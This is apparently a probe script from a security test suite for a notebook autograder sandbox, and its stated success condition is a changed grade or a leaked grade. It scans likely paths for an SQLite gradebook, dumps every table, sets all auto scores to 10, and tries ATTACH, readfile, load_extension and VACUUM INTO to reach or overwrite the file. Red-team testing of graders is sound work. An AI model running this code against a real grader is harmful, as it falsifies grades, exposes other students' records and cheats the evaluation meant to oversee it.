"""Opens the gradebook as a database, in all of SQLite's modes, reads every table and gives itself full marks."""

SUCCESS = "a changed grade, or another student's grade in the outputs"

# %%
import glob
import os
import sqlite3

folders = (
    "@OUT@/reading",
    "@OUT@",
    "@HOME@",
    "@HOME@/private",
    "@COURSE@",
    "@COURSE@/.gradecast",
    "/srv/nbgrader",
    ".",
)
for folder in folders:
    for name in ("gradebook.db", "gradebook.txt", "gradebook.db-wal", "gradebook.db-journal"):
        for mode in ("mode=rw", "mode=ro", "mode=ro&immutable=1", "mode=rw&nolock=1", "mode=rw&vfs=unix-none"):
            try:
                book = sqlite3.connect(f"file:{folder}/{name}?{mode}", uri=True, timeout=0)
                for (table,) in book.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                    print(table, book.execute(f"SELECT * FROM {table}").fetchall())
                book.execute("UPDATE grade SET auto_score = 10")
                book.commit()
            except sqlite3.Error as error:
                last = error
    print(folder, last)

# %%
book = sqlite3.connect(":memory:")
for statement in (
    "ATTACH DATABASE '@OUT@/reading/gradebook.db' AS book",
    "ATTACH DATABASE 'file:@OUT@/reading/gradebook.db?mode=ro' AS book",
    "SELECT readfile('@HOME@/private/gradebook.txt')",
    "SELECT load_extension('/proc/self/exe')",
    "VACUUM INTO '@OUT@/reading/gradebook.db'",
):
    try:
        print(book.execute(statement).fetchall(), book.execute("SELECT * FROM book.grade").fetchall())
    except sqlite3.Error as error:
        print(error)
print(glob.glob("/**/*.db", root_dir="@HOME@", recursive=True), os.environ.get("GRADECAST_GRADEBOOK"), "attempted")
